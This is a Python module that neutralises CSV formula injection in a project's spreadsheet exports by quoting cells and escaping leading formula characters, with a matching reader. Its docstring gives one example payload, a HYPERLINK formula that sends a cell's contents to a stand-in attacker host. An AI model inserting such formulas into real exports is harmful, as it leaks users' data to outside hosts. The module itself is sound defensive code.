"""CSV cells that a spreadsheet shows as text, and read back as they were.

A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and
some trim a leading tab or carriage return first; so a name typed on the public join page, such as
`=HYPERLINK("http://evil.example/?"&B2)`, would be a live formula in the owner's export. Following
OWASP's advice on CSV injection, every CSV Tessera writes goes through `Writer`: a cell that starts
with one of those characters, after any number of single quotes, gets one more single quote in
front (which a spreadsheet shows as text), and every cell is quoted, so a separator inside a cell
never starts a new one.

`read_cell` undoes it: a cell of one or more single quotes followed by one of those characters
loses one quote. Writing and reading are exact inverses, so an export imports unchanged (`+39 333
1234567` is written `'+39 333 1234567` and read back as it was), and a cell like `'abc` or `O'Neil`
passes both ways untouched.
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO

FORMULA_STARTS = "=+-@\t\r"
_TO_MARK = re.compile(r"'*[=+\-@\t\r]")  # a quote in front of `'=` too, else reading would take it off
_MARKED = re.compile(r"'+[=+\-@\t\r]")


def write_cell(text: str) -> str:
    """The cell as written: one more leading quote when a spreadsheet would run it."""
    return "'" + text if _TO_MARK.match(text) else text


def read_cell(cell: str) -> str:
    """The text a written cell stands for: `write_cell` undone."""
    return cell[1:] if _MARKED.match(cell) else cell


class Writer:
    """A csv.writer whose rows a spreadsheet cannot run: every cell quoted and passed through
    `write_cell`."""

    def __init__(self, handle: IO[str], lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(handle, quoting=csv.QUOTE_ALL, lineterminator=lineterminator)

    def writerow(self, row: Iterable[str]) -> None:
        self._writer.writerow([write_cell(cell) for cell in row])
